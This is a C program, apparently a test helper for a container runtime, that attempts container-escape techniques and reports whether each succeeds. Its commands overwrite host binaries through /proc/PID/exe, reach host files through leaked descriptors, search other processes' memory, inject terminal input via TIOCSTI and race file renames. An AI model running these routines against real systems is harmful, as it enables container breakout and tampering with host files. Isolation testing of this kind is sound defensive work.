/*
 * What a hostile process in a container tries: `attack WORD ARG…` does one thing and says on standard output what
 * came of it. Static, so that any root will do.
 */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int said(const char *what, long result)
{
	printf("%s: %s\n", what, result < 0 ? strerror(errno) : "done");
	return result < 0;
}

static double now(void)
{
	struct timespec moment;

	clock_gettime(CLOCK_MONOTONIC, &moment);
	return (double)moment.tv_sec + (double)moment.tv_nsec / 1e9;
}

/* Every descriptor and what it leads to; our own directory stream is opened last. */
static int cmd_fds(char **args)
{
	char path[300], target[4096];
	DIR *directory = opendir(*args ? *args : "/proc/self/fd");
	struct dirent *entry;

	if (!directory)
		return said(*args ? *args : "/proc/self/fd", -1);
	while ((entry = readdir(directory))) {
		if (*entry->d_name == '.' || (!*args && atoi(entry->d_name) == dirfd(directory)))
			continue;
		snprintf(path, sizeof(path), "%s/%s", *args ? *args : "/proc/self/fd",
			 entry->d_name);
		ssize_t length = readlink(path, target, sizeof(target) - 1);
		printf("%s -> %.*s\n", entry->d_name, length < 0 ? 0 : (int)length, target);
	}
	return 0;
}

/* The first of the words that can be opened for writing is overwritten. */
static int cmd_overwrite(char **args)
{
	for (; *args; args++) {
		int fd = open(*args, O_WRONLY);
		if (fd >= 0 && write(fd, "#!/owned\n", 9) == 9)
			return said(*args, 0);
		said(*args, -1);
	}
	return 0;
}

/*
 * For SECONDS: hold the program of every other process that appears, by a descriptor that needs no right to it, and
 * try to write through that, until the process has ended and the file is no longer busy.
 */
static int cmd_hunt(char **args)
{
	enum { MOST = 256 };
	static int held[MOST];
	static char targets[MOST][256];
	int count = 0;
	char path[64];

	printf("ready\n");
	fflush(stdout);
	for (double until = now() + atof(args[0]); now() < until;) {
		for (int pid = 1; pid < 200 && count < MOST; pid++) {
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = pid == getpid() ? -1 : open(path, O_PATH);
			if (fd < 0)
				continue;
			ssize_t length = readlink(path, targets[count], sizeof(targets[count]) - 1);
			targets[count][length < 0 ? 0 : length] = '\0';
			if (!*targets[count] || strstr(targets[count], "attack")) {
				close(fd);
				continue;
			}
			held[count++] = fd;
		}
		for (int i = 0; i < count; i++) {
			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
			int fd = open(path, O_WRONLY);
			if (fd >= 0 && write(fd, "#!/owned\n", 9) == 9)
				printf("wrote %s\n", targets[i]);
			if (fd >= 0)
				close(fd);
		}
		if (count > MOST / 2)
			while (count)
				close(held[--count]);
	}
	printf("over\n");
	return 0;
}

/* What leads out of a process that is not the container's own: its descriptors, its root, its memory. */
static void look_into(int pid, const char *host_file)
{
	char path[600], target[256];

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	DIR *directory = opendir(path);
	struct dirent *entry;
	while (directory && (entry = readdir(directory))) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, entry->d_name);
		ssize_t length = readlink(path, target, sizeof(target) - 1);
		target[length < 0 ? 0 : length] = '\0';
		if (strstr(target, "memfd:") || strstr(target, "rcrun"))
			printf("descriptor %s\n", target);
	}
	if (directory)
		closedir(directory);
	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s/%s", pid, i ? "cwd" : "root", host_file);
		int fd = open(path, O_PATH);
		if (fd >= 0)
			printf("reached %s\n", path);
		if (fd >= 0)
			close(fd);
	}
}

/* Every process that appears is looked into, for SECONDS; HOST_FILE is none of the container's. */
static int cmd_watch(char **args)
{
	printf("ready\n");
	for (double until = now() + atof(args[0]); now() < until;)
		for (int pid = 1; pid < 300; pid++)
			if (pid != getpid())
				look_into(pid, args[1]);
	printf("over\n");
	return 0;
}

/* Whether TEXT is in the memory of a process; it comes in two halves, so that it is not in ours as a whole. */
static int cmd_search(char **args)
{
	static char memory[1 << 20];
	char path[64], line[512], text[256];
	unsigned long from, to;
	int found = 0, length = snprintf(text, sizeof(text), "%s%s", args[1], args[2]);

	snprintf(path, sizeof(path), "/proc/%s/maps", args[0]);
	FILE *maps = fopen(path, "r");
	snprintf(path, sizeof(path), "/proc/%s/mem", args[0]);
	int fd = open(path, O_RDONLY);
	if (!maps || fd < 0)
		return said(path, -1);
	while (fgets(line, sizeof(line), maps) && sscanf(line, "%lx-%lx", &from, &to) == 2)
		for (; from < to; from += sizeof(memory) / 2) {
			ssize_t got = pread(fd, memory, sizeof(memory), (off_t)from);
			found += got > 0 && memmem(memory, (size_t)got, text, (size_t)length);
		}
	printf("%s\n", found ? "found" : "not there");
	return 0;
}

/* Two names are exchanged without end. */
static int cmd_swap(char **args)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1], 2) < 0)
			return said("renameat2", -1);
}

static int cmd_tiocsti(char **args)
{
	for (; *args; args++) {
		int fd = open(*args, O_RDWR | O_NOCTTY);
		if (fd < 0) {
			said(*args, -1);
			continue;
		}
		said("TIOCSTI", ioctl(fd, TIOCSTI, "x"));
		said("TIOCSCTTY", ioctl(fd, TIOCSCTTY, 1));
		close(fd);
	}
	return 0;
}

/* Says whether PATH can be read and, if so, its first line. */
static int cmd_read(char **args)
{
	for (; *args; args++) {
		char text[256];
		int fd = open(*args, O_RDONLY | O_NONBLOCK);
		ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
		if (length < 0)
			said(*args, -1);
		else
			printf("%s: read %.*s\n", *args,
			       (int)strcspn((text[length] = '\0', text), "\n"), text);
	}
	return 0;
}

/* mount(2): SOURCE TARGET TYPE FLAGS */
static int cmd_mount(char **args)
{
	return said(args[1], mount(args[0], args[1], args[2], strtoul(args[3], NULL, 0), NULL));
}

static int cmd_mkfifo(char **args)
{
	for (; *args; args++) {
		unlink(*args);
		said(*args, mkfifo(*args, 0666));
	}
	return 0;
}

static int cmd_mknod(char **args)
{
	return said(args[0],
		    mknod(args[0], S_IFCHR | 0666, (dev_t)((atoi(args[1]) << 8) | atoi(args[2]))));
}

/* Descriptors that lead out: try to reach a file of the host through each that is open. */
static int cmd_escape(char **args)
{
	int escaped = 0;

	for (int fd = 0; fd < 1024; fd++) {
		char text[256];
		int found = openat(fd, args[0], O_RDONLY | O_NONBLOCK);
		if (found < 0)
			continue;
		ssize_t length = read(found, text, sizeof(text) - 1);
		printf("through %d: %.*s\n", fd, length < 0 ? 0 : (int)length, text);
		escaped = 1;
	}
	if (!escaped)
		printf("no way out\n");
	return escaped;
}

static int cmd_garbage(char **args)
{
	static char bytes[65536];
	long left = atol(args[0]);

	for (size_t i = 0; i < sizeof(bytes); i++)
		bytes[i] = (char)(i * 7 + i / 251);
	while (left > 0 && write(1, bytes, sizeof(bytes)) > 0)
		left -= (long)sizeof(bytes);
	return 0;
}

static int cmd_sleep(char **args)
{
	printf("ready\n");
	fflush(stdout);
	return (int)sleep((unsigned)atoi(args[0]));
}

static const struct {
	const char *word;
	int (*run)(char **args);
} commands[] = {
	{"escape", cmd_escape},   {"fds", cmd_fds},
	{"garbage", cmd_garbage}, {"hunt", cmd_hunt},
	{"mkfifo", cmd_mkfifo},   {"mknod", cmd_mknod},
	{"mount", cmd_mount},     {"overwrite", cmd_overwrite},
	{"read", cmd_read},       {"sleep", cmd_sleep},
	{"search", cmd_search},   {"swap", cmd_swap},
	{"tiocsti", cmd_tiocsti}, {"watch", cmd_watch},
};

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(*commands); i++)
		if (strcmp(argv[1], commands[i].word) == 0)
			return commands[i].run(argv + 2);
	fprintf(stderr, "attack: no such word\n");
	return 2;
}
